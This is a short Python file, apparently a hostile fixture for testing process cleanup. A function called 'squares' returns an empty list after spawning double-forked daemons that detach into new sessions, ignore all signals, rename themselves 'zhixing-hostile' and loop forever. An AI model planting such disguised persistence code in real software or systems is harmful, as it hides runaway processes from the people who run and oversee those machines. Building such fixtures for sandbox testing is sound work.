"""Leaves daemons behind: forked twice, in sessions of their own, deaf to signals, renamed."""
import ctypes
import os
import signal
import time

NAME = b"zhixing-hostile"


def daemon():
    os.setsid()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    ctypes.CDLL(None).prctl(15, NAME, 0, 0, 0)
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    os.closerange(0, 1024)
    os.chdir("/")
    while True:
        time.sleep(1)


def squares(xs):
    for _ in range(3):
        if os.fork() == 0:
            if os.fork() == 0:
                daemon()
            os._exit(0)
    return []


status_of_a_child = squares
